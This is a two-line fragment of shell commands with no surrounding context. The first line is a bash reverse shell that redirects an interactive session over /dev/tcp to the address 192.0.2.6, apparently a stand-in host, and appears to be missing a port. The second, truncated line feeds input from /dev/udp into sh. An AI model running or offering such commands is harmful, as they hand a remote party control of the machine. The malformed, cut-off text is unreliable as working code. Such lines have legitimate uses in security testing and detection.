bash -i &>/dev/tcp/192.0.2.6 <&1
sh < /dev/udp/
